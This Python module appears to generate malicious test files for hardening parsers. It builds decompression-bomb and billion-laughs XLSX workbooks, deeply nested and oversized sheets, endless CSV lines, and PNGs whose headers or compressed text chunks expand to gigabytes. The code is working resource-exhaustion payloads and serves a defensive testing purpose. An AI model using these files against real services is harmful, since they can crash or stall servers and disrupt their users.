"""Files made to harm whoever reads them: small to send, large or slow to read."""

import io
import struct
import zipfile
import zlib
from itertools import pairwise

OFFICE = "http://schemas.openxmlformats.org"
MAIN = f"{OFFICE}/spreadsheetml/2006/main"
RELATIONS = f"{OFFICE}/officeDocument/2006/relationships"
KIND = "application/vnd.openxmlformats-officedocument.spreadsheetml"
FRAME = {
    "[Content_Types].xml": f'<Types xmlns="{OFFICE}/package/2006/content-types"><Override PartName="/b.xml" '
    f'ContentType="{KIND}.sheet.main+xml"/><Override PartName="/t.xml" '
    f'ContentType="{KIND}.sharedStrings+xml"/></Types>',
    "b.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{RELATIONS}"><sheets><sheet name="s" sheetId="1" r:id="r1"/>'
    "</sheets></workbook>",
    "_rels/b.xml.rels": f'<Relationships xmlns="{OFFICE}/package/2006/relationships"><Relationship Id="r1" '
    f'Type="{RELATIONS}/worksheet" Target="/s.xml"/></Relationships>',
}


def workbook(rows, *, texts=(), before=""):
    """A workbook whose sheet holds `rows` as they stand, with a list of shared texts and a preamble."""
    shared = "".join(f"<si><t>{text}</t></si>" for text in texts)
    parts = FRAME | {
        "t.xml": f'<sst xmlns="{MAIN}">{shared}</sst>',
        "s.xml": f'{before}<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>',
    }
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as bundle:
        for name, text in parts.items():
            bundle.writestr(name, text)
    return packed.getvalue()


def repeated_text():
    """One text of 20 million letters, that 400,000 cells show."""
    row = "<row>" + '<c t="s"><v>0</v></c>' * 40 + "</row>"
    return workbook(row * 10_000, texts=["x" * 20_000_000])


def deep():
    return workbook("<row>" * 2_000_000 + "</row>" * 2_000_000)


def _ten(name):
    return f"&{name};" * 10


def laughs():
    lines = "".join(f'<!ENTITY {one} "{_ten(before)}">' for before, one in pairwise("abcdefghij"))
    before = f'<!DOCTYPE x [<!ENTITY a "ha">{lines}]>'
    return workbook('<row><c t="inlineStr"><is><t>&j;</t></is></c></row>', before=before)


def sparse():
    return workbook('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


def wide_open():
    """Cells without end in one row."""
    return workbook("<row>" + "<c><v>1</v></c>" * 1_900_000 + "</row>")


def bomb():
    return workbook("", texts=["0" * 100_000_000])


def endless_line():
    return b'Name,Email\n"' + b"x" * 4_900_000


def all_separators():
    return b"," * 4_900_000


SHEETS = {
    "repeated_text.xlsx": repeated_text,
    "deep.xlsx": deep,
    "laughs.xlsx": laughs,
    "sparse.xlsx": sparse,
    "wide_open.xlsx": wide_open,
    "bomb.xlsx": bomb,
    "endless_line.csv": endless_line,
    "all_separators.csv": all_separators,
}


def _chunk(name, body):
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width, height, *, depth=8, colour=2, whole=False, besides=b""):
    """A picture of nothing; `whole` says whether all its pixels are there."""
    row = bytes({2: 3, 6: 4}[colour] * depth // 8 * width + 1) if whole else bytes(99)
    packer = zlib.compressobj(9)
    pixels = b"".join(packer.compress(row) for _row in range(height if whole else 1)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + besides
        + _chunk(b"IDAT", pixels)
        + _chunk(b"IEND", b"")
    )


def flood():
    """It says that it is enormous."""
    return png(60_000, 60_000)


def sliver():
    return png(2_000_000, 1, whole=True)


def heavy():
    """It is as large as a picture may be, and twice as deep."""
    return png(6_300, 6_300, depth=16, colour=6, whole=True)


def wordy():
    """Few pixels, with texts that unpack to gigabytes."""
    text = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(60_000_000), 9))
    return png(9, 9, whole=True, besides=text * 40)


PICTURES = {"flood.png": flood, "sliver.png": sliver, "heavy.png": heavy, "wordy.png": wordy}
